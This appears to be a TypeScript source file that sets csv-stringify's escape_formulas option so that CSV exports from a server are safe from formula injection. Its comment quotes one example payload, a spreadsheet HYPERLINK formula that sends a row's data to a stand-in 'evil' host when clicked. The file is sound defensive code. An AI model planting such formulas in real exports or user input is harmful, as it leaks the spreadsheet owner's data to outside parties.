import type { Options } from "csv-stringify";

/**
 * The options every CSV the server writes starts from. A cell a user wrote (a key or project name, an
 * actor's name) that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is a live formula in
 * the spreadsheet the owner opens the export in (`=HYPERLINK("http://evil/?"&A2,"x")` sends the row
 * away on a click): csv-stringify's `escape_formulas` prefixes such cells with a `'`, which spreadsheets
 * read as "text".
 */
export const SAFE_CSV_OPTIONS = { escape_formulas: true } as const satisfies Options;
